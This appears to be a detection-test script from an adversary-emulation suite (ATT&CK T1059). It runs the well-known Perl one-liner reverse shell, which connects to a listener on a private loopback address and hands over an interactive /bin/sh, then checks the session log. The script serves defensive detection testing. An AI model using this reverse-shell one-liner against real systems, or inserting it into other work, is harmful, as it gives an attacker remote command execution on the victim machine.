# technique: T1059
# tactic: execution
# name: Perl one-liner reverse shell (socket + exec /bin/sh -i) to a listener
# expect: detected
. "$EMULATION_LIB"
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
need perl python3 ip
loopback_up
# The "attacker" address lives on this namespace's private loopback, so nothing leaves the box.
ip addr add 198.51.100.7/32 dev lo

# Attacker side: a one-shot listener on the private loopback (lib.sh).
attacker_listener

# Victim side: the pentestmonkey Perl one-liner.
perl -e 'use Socket;$i="198.51.100.7";$p='"$port"';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' || true

wait $listener || true
grep -q 'uid=' session.log
